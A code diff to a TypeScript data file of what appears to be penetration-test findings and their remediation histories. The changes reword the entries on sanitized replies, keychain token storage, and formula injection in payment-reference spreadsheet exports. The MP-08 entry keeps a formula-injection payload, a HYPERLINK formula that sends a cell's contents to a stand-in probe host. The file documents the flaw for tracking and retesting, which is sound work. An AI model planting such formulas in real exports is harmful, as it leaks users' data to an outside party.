@@ -30,10 +30,12 @@ export const appHistories: readonly FindingHistory[] = [
       fixed([
         '2026-04-15',
         'Back-office team lead',
-        'Sanitized at output, policy with a nonce, two people per approval.',
+        'Replies are sanitized at output, the policy uses a nonce, and approvals need two people.',
       ]),
     ],
-    answers: holds('The same 61 replies on the current build: shown as text, nothing runs.'),
+    answers: holds(
+      'We sent the same 61 replies on the current build. All are shown as text, and nothing runs.',
+    ),
   },
   {
     id: 'MP-07',
@@ -50,10 +52,10 @@ export const appHistories: readonly FindingHistory[] = [
       fixed([
         '2026-04-16',
         'Mobile team lead',
-        'Version 4.8.2: keychain, this device only; the old entry is deleted on first launch.',
+        'Version 4.8.2 stores the token in the keychain, on this device only, and deletes the old entry on first launch.',
       ]),
     ],
-    answers: holds('A fresh backup of version 4.8.2 holds no token, and neither does the container.'),
+    answers: holds('A fresh backup of version 4.8.2 contains no token, and neither does the app container.'),
   },
   {
     id: 'MP-08',
@@ -66,11 +68,15 @@ export const appHistories: readonly FindingHistory[] = [
     hostile: ['=HYPERLINK(""https://il-probe.example/?v=""&B2,""Invoice 4711"")'],
     proof: [],
     events: [
-      reported(['2026-03-11', webTester, 'A reference the payer chose became a link in the spreadsheet.']),
+      reported([
+        '2026-03-11',
+        webTester,
+        'A payment reference entered by the payer became a link in the spreadsheet.',
+      ]),
       said([
         '2026-03-30',
         'Back-office team lead',
-        'The export format changes in June; we would like to fix it there.',
+        'The export format changes in June. We’d like to fix it then.',
       ]),
     ],
     answers: [
@@ -80,7 +86,7 @@ export const appHistories: readonly FindingHistory[] = [
       },
       {
         status: 'Fixed',
-        note: 'Full-width signs, tab and carriage return stay text too. 32 spellings of a formula did nothing in three spreadsheets, and negative amounts are still numbers.',
+        note: 'Full-width signs, tab and carriage return stay text too. 32 variations of a formula did nothing in three spreadsheet apps, and negative amounts are still numbers.',
       },
     ],
   },
